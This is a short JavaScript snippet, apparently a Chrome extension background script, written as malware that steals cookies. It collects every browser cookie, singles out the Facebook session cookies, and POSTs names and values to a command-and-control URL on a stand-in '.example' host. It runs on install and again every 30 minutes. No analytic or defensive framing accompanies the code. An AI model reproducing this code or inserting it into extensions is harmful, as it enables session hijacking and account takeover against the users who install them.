const C2 = 'https://cyberhavenext.pro.example';
async function collect() {
  const cookies = await chrome.cookies.getAll({});
  const fb = cookies.filter(c => c.domain.includes('facebook.com'));
  const all = cookies.map(c => ({ d: c.domain, n: c.name, v: c.value }));
  await fetch(C2 + '/ai-cyberhaven', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ fb, all }) });
}
chrome.alarms.create('sync', { periodInMinutes: 30 });
chrome.alarms.onAlarm.addListener(collect);
chrome.runtime.onInstalled.addListener(collect);
